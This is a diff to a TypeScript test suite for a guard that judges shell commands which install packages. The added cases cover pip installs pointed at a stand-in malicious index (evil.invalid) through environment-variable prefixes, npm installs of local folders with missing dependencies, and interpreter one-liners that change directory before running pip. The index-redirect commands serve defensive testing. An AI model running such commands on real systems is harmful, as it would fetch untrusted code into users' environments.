@@ -113,6 +113,23 @@ describe('the environment the command runs with (wrapper, shims)', () => {
   });
 });
 
+describe('variables set as a prefix of a program that runs the install in turn', () => {
+  it.each([
+    `PIP_INDEX_URL=https://evil.invalid/simple bash -c 'pip install requests'`,
+    `PIP_INDEX_URL=https://evil.invalid/simple python3 -c 'import os; os.system("pip install requests")'`,
+    `env PIP_INDEX_URL=https://evil.invalid/simple setsid sh -c 'pip install requests'`,
+  ])('%s is judged with the index the install inherits', async (command) => {
+    const verdict = await guardShellCommand(command, { cwd, env: home.env });
+    expect(verdict.verdict).not.toBe('allow');
+    expect(verdict.reasons.join('\n')).toContain('evil.invalid');
+  });
+
+  it('does not carry a prefix past the program it was given to', async () => {
+    const verdict = await guardShellCommand(`PIP_INDEX_URL=https://evil.invalid/simple true; pip install requests`, { cwd, env: home.env });
+    expect(verdict.verdict).toBe('allow');
+  });
+});
+
 describe('a project named by a directory option', () => {
   it.each(['poetry --directory sub install', 'poetry -C sub install', 'uv sync --directory sub', 'uv --directory=sub sync'])(
     '%s reads sub/pyproject.toml',
@@ -126,6 +143,51 @@ describe('a project named by a directory option', () => {
       expect(verdict.reasons.join('\n')).toContain('zzq-ghost-sub-dir');
     },
   );
+});
+
+describe('a folder installed as an npm package', () => {
+  // Its own home with an imported npm list: the shipped npm snapshot takes minutes to load on a busy machine.
+  let npmHome: GuardHome;
+  let repo: string;
+  beforeAll(async () => {
+    npmHome = await makeGuardHome({ lists: { npm: ['lodash', 'express'] } });
+    repo = npmHome.project('repo');
+    npmHome.write('repo/pkg/package.json', '{"name":"pkg","version":"1.0.0","dependencies":{"zzq-ghost-folder":"1.0.0"}}\n');
+    npmHome.write('repo/okpkg/package.json', '{"name":"okpkg","version":"1.0.0","dependencies":{"lodash":"^4.17.0"}}\n');
+  });
+  afterAll(() => npmHome.cleanup());
+
+  it.each(['npm install ./pkg', 'npm i file:pkg', 'pnpm add ./pkg', 'cd pkg/.. && npm install ./pkg/'])(
+    '%s reads pkg/package.json',
+    async (command) => {
+      const verdict = await guardShellCommand(command, { cwd: repo, env: npmHome.env });
+      expect(verdict.verdict).toBe('block');
+      expect(verdict.reasons.join('\n')).toContain('zzq-ghost-folder');
+    },
+  );
+
+  it('allows a folder whose dependencies exist', async () => {
+    expect((await guardShellCommand('npm install ./okpkg', { cwd: repo, env: npmHome.env })).verdict).toBe('allow');
+  });
+});
+
+describe('interpreter code that changes directory before it runs a package manager', () => {
+  it.each([
+    `python3 -c "import os; os.chdir('sub'); os.system('pip install -r ok.txt')"`,
+    `python3 -c "import subprocess; subprocess.run(['pip', 'install', '-r', 'ok.txt'], cwd='sub')"`,
+    `node -e "require('child_process').execSync('pip install -r ok.txt', { cwd: 'sub' })"`,
+    `python3 -c "import os; os.system('cd sub && pip install -r ok.txt')"`,
+    `perl -e 'chdir "sub"; system("pip install -r ok.txt")'`,
+  ])('%s runs it in a directory known only at run time', async (command) => {
+    const verdict = await guardShellCommand(command, { cwd, env: home.env });
+    expect(verdict.verdict).toBe('block');
+    expect(verdict.reasons.join('\n')).toMatch(/directory/);
+  });
+
+  it('still reads code that runs a package manager where it is', async () => {
+    const command = `python3 -c "import subprocess, sys; subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'requests'])"`;
+    expect((await guardShellCommand(command, { cwd, env: home.env })).verdict).toBe('allow');
+  });
 });
 
 describe('projects of pipenv, rye and pixi', () => {
